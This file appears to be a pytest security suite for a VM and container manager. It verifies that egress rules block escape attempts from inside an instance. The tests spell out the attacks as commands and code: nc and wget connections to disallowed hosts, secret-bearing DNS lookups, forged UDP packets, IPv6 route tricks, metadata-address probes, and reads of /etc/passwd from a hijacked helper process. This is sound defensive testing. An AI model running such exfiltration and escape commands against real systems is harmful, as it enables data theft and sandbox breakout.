"""An instance tries to reach more outside than its egress rules allow: other addresses, DNS, IPv6, forged packets, the
gateway, and services of the host."""

import os
import signal
import socket
import stat
import subprocess
from contextlib import ExitStack

import pytest
from support import frames
from support.attack_table import callers, modes
from support.attacks import Cell, UserCaller
from support.commands import wait_for
from support.frames import udp
from support.internet import FAR, HOST, HOST_TOO, NEAR, OTHER, PORT, PORT_TOO, Internet, RootThere, UserThere
from support.qemu_probe import as_qemu, read, status, trace

from vmctl.linux import netlink
from vmctl.net import uplink

pytestmark = pytest.mark.timeout(900)

BRIDGE = "52:54:00:4d:00:01"
MARK = b"forged by mallory"


@pytest.fixture(scope="module")
def internet():
    with Internet() as internet:
        yield internet


@pytest.fixture(scope="module")
def caller(who, guest_root, internet, tmp_path_factory):
    with ExitStack() as stack:
        if who == "root":
            yield RootThere(str(tmp_path_factory.mktemp("caller")), internet)
        else:
            yield UserCaller(stack.enter_context(UserThere(internet)))


class Inside(Cell):
    """An instance with egress rules."""

    def __init__(self, caller, mode, egress, **keys):
        network = {"egress": egress}
        super().__init__(caller, mode, network=network, container={"cap_add": ["NET_RAW", "NET_ADMIN"]}, **keys)
        document = caller.inspect(self.name)
        self.address, self.mac = document["address"], self.shell("cat /sys/class/net/eth0/address").out.strip()

    def get(self, where):
        return self.shell(f"timeout 20 wget -q -O - http://{where}/ 2>&1").out


@pytest.fixture(scope="module")
def program(tmp_path_factory):
    return frames.build(tmp_path_factory.mktemp("frames"))


@pytest.fixture(scope="module")
def make(caller, mode):
    with ExitStack() as stack:

        def make(egress):
            cell = Inside(caller, mode, egress)
            stack.callback(cell.end)
            return cell

        yield make


@pytest.fixture(scope="module")
def free(make):
    """A neighbour that may leave: so the way out and the name servers of the host are there."""
    return make("all")


@pytest.fixture(scope="module")
def only(make, free, program):
    """The attacker, who may reach one address at one port, and a name."""
    cell = make([f"{FAR}:{PORT}", f"example.org:{PORT}", f"{OTHER}:53/udp"])
    frames.install(cell, program)
    return cell


def test_the_way_out_and_its_rules(free, only, internet):
    """What is allowed works, by address and by name: else every attempt below would fail, too."""
    assert free.get(f"{OTHER}:{PORT}") == f"from {OTHER}\n"
    assert free.get(f"other.example.net:{PORT_TOO}") == f"from {OTHER}\n"
    assert only.get(f"{FAR}:{PORT}") == f"from {FAR}\n"
    assert only.get(f"example.org:{PORT}") == f"from {FAR}\n"


@pytest.mark.attack("connects to addresses and ports that its egress rules do not name, by TCP and UDP")
def test_other_addresses(only, internet):
    before = len(internet.reached)
    for where in (f"{FAR}:{PORT_TOO}", f"{OTHER}:{PORT}", f"{NEAR}:{PORT}", f"other.example.net:{PORT}"):
        assert "from" not in only.get(where)
    both = (FAR, OTHER)  # the rule for FAR is about both protocols
    only.shell_at_once(*(f"echo x | timeout 3 nc -u -w 1 {address} {PORT}" for address in both))
    only.shell(
        f"ip route add {OTHER}/32 via 10.77.0.1; ip addr add 10.77.9.9/16 dev eth0; "
        f"timeout 5 wget -q -O - http://{OTHER}:{PORT}/; ip addr del 10.77.9.9/16 dev eth0"
    )
    assert (OTHER, PORT) not in internet.reached[before:]
    assert (FAR, PORT_TOO) not in internet.reached[before:]


@pytest.mark.attack("sends a secret as part of a name to look up, to each name server in reach")
def test_names_as_messages(free, only, internet):
    servers = ("10.77.0.1", uplink.UPSTREAM, FAR, "127.0.0.1")
    only.shell_at_once(*(f"timeout 20 nslookup secret-{server}.example.org {server}" for server in servers))
    assert not [name for name in internet.asked if "secret" in name]
    assert free.name in only.shell(f"nslookup {free.name} 10.77.0.1").out  # neighbours are known
    free.shell("nslookup open.example.org")
    assert "open.example.org" in internet.asked


@pytest.mark.attack("sends packets with the address of a neighbour that may leave, and with options and fragments")
def test_forged_packets(free, only, internet):
    before = len(internet.reached)
    packets = [
        udp((only.mac, free.address), (BRIDGE, OTHER), (4009, PORT), MARK),
        udp((free.mac, free.address), (BRIDGE, OTHER), (4009, PORT), MARK),
        udp((only.mac, only.address), (BRIDGE, OTHER), (5353, PORT), MARK),
        udp((only.mac, "10.77.0.1"), (BRIDGE, OTHER), (4009, PORT), MARK),
        udp((only.mac, only.address), (BRIDGE, "255.255.255.255"), (4009, PORT), MARK),
    ]
    frames.send(only, *packets * 3, udp((only.mac, only.address), (BRIDGE, FAR), (4009, PORT), MARK))
    wait_for(lambda: (FAR, PORT) in internet.reached[before:], 20)  # the last one is allowed
    assert set(internet.reached[before:]) == {(FAR, PORT)}


@pytest.mark.attack("reaches services of the host by its addresses, the gateway, loopback and 0.0.0.0 on the way out")
def test_services_of_the_host(free, internet, program):
    frames.install(free, program)
    with internet.listen_on_host() as server:
        server.setblocking(False)
        port = server.getsockname()[1]
        gateways = ("10.77.0.1", uplink.GATEWAY, uplink.OWN, uplink.UPSTREAM, "169.254.169.254")
        addresses = (HOST, HOST_TOO, "127.0.0.1", "0.0.0.0", *gateways)
        free.shell_at_once(*(f"echo | timeout 4 nc -w 2 {address} {port}" for address in addresses))
        for address in ("127.0.0.1", "127.0.0.53", "0.0.0.0", HOST_TOO):
            frames.send(free, udp((free.mac, free.address), (BRIDGE, address), (port, port), MARK))
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.attack("leaves by IPv6, through the switch as a router")
def test_ipv6(only, internet):
    seen = only.shell(
        "ip -6 addr add 2001:db8::7/64 dev eth0; ip -6 route add default via fe80::5054:ff:fe4d:1 dev eth0;"
        " timeout 5 nc -w 3 2001:db8:1::1 8000 </dev/null"
    )
    assert seen.code != 0


@modes("container")
@pytest.mark.attack("gets the address of an instance that had more rights, with its open connections")
def test_address_used_again(caller, mode, free, internet):
    before = Inside(caller, mode, "all")
    assert before.get(f"{OTHER}:{PORT}")
    before.end()
    cell = Inside(caller, mode, "none")
    try:
        assert cell.address == before.address
        assert "from" not in cell.get(f"{OTHER}:{PORT}")
    finally:
        cell.end()


@modes("container")
@pytest.mark.attack("gets the address of an instance that was allowed to reach the host's loopback")
def test_address_of_one_that_reached_the_host(caller, mode, free, internet):
    with internet.listen_on_host("127.0.0.1") as server:
        server.setblocking(False)
        connect = f"echo | timeout 4 nc -w 2 {uplink.GATEWAY} {server.getsockname()[1]}"
        before = Inside(caller, mode, "all", extra_hosts=["host.test:host-gateway"])
        before.shell(connect)
        server.accept()[0].close()
        before.end()
        for egress in ("all", ["203.0.113.0/24"]):
            cell = Inside(caller, mode, egress)
            try:
                assert cell.address == before.address
                cell.shell(connect)
                with pytest.raises(BlockingIOError):
                    server.accept()
            finally:
                cell.end()


@callers("root")
@modes("vm")
@pytest.mark.attack("leaves from a QEMU that its guest has taken over, which is in the switch")
def test_a_qemu(caller, mode, only, internet):
    def connect():
        return socket.create_connection((FAR, PORT), timeout=3)

    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"secret", (uplink.UPSTREAM, 53))

    answers = as_qemu(caller.inspect(only.name)["pid"], {"connect": connect, "ask": ask})
    assert {name: answer[0] for name, answer in answers.items()} == {"connect": "refused", "ask": "refused"}


@callers("root")
@modes("vm")
@pytest.mark.attack("reads files, reaches processes and changes the network of the host, from a pasta taken over")
def test_a_pasta(caller, mode, only, internet, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("of the host")
    secret.chmod(0o644)
    pid, victims = uplink.recorded()[0], (os.getppid(), os.getpid(), caller.inspect(only.name)["pid"])
    attempts = {path: lambda path=path: read(path) for path in (str(secret), "/etc/passwd", f"/proc/{pid}/root/etc")}
    attempts |= {f"kill {victim}": lambda victim=victim: os.kill(victim, signal.SIGCONT) for victim in victims}
    attempts |= {f"trace {victim}": lambda victim=victim: trace(victim) for victim in victims}
    attempts["mknod"] = lambda: os.mknod("/disk", 0o600 | stat.S_IFBLK, os.stat("/").st_dev)
    attempts["packets"] = lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    attempts["link"] = lambda: netlink.apply(netlink.set_up("lo"))
    attempts["port"] = lambda: socket.create_server(("0.0.0.0", 79))
    answers = as_qemu(pid, {**attempts, "root": lambda: os.listdir("/")})
    assert answers.pop("root") == ["got through", "[]"]  # the probe is where pasta is
    assert {name: answer[0] for name, answer in answers.items() if answer[0] != "refused"} == {}
    found = status(pid)
    assert (found["NoNewPrivs"], found["Seccomp"]) == ("1", "2")
    users, lobby = (os.readlink(f"/proc/{one}/ns/user") for one in ("self", pid))
    assert users != lobby


def test_rules_that_cannot_be_enforced_are_refused(caller, internet):
    for rule, reason in (
        ("nosuch.example.org", "its address is not known"),
        (HOST_TOO, "leads nowhere"),
        ("127.0.0.0/8", "leads nowhere"),
        ("169.254.169.254:80", "leads nowhere"),
    ):
        assert reason in caller.refused("run", "--egress", rule, "tiny", "--", "true")
    for rule in ("[2001:db8::1]:80", "10.0.0.1/24", "example.org:0", "x y"):
        assert "expected" in caller.refused("run", "--egress", rule, "tiny", "--", "true")
    for words in (("--mode", "host"), ("--network", "host")):
        caller.refused("run", *words, "--egress", "none", "tiny", "--", "true")
    assert "default route" in _without_route(caller, internet)


def _without_route(caller, internet):
    internet.host.run("ip", "route", "del", "default")
    try:
        assert caller.vmctl("run", "tiny", "--", "true").code == 0
        return caller.refused("run", "--egress", FAR, "tiny", "--", "true")
    finally:
        internet.host.run("ip", "route", "add", "default", "via", NEAR)


def test_nothing_of_the_host_changes_and_nothing_is_left(internet, who, guest_root, tmp_path):
    """Also if everything but pasta is killed: the next command ends it."""

    def state():
        commands = ("ip -o link", "ip -o address", "ip rule", "ip route show table all", "nft list ruleset")
        return [internet.host.run(*command.split()) for command in commands]

    def pastas():
        found = []
        for name in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{name}/cmdline", "rb") as file:
                    words = file.read()
                if words.startswith(b"pasta\0") and state_root.encode() in words:
                    found.append(int(name))
            except OSError:
                continue
        return found

    before = state()
    with ExitStack() as stack:
        caller = RootThere(str(tmp_path), internet)
        state_root = guest_root
        if who == "user":
            caller = UserCaller(stack.enter_context(UserThere(internet)))
            state_root = caller.user.home
        others = pastas()
        one = Inside(caller, "container", "all")
        assert one.get(f"{FAR}:{PORT}") == f"from {FAR}\n"
        assert len(pastas()) >= 1
        assert state() == before
        if who == "user":
            running = set(caller.user.processes()) - set(pastas())
            for pid in running:
                subprocess.run(["kill", "-9", str(pid)], check=False)
        one.end()
        caller.vmctl("rm", "-f", one.name)
        two = Inside(caller, "container", "all")
        assert two.get(f"{FAR}:{PORT}") == f"from {FAR}\n"
        two.end()
        wait_for(lambda: pastas() == [] or pastas() == others)
    assert state() == before
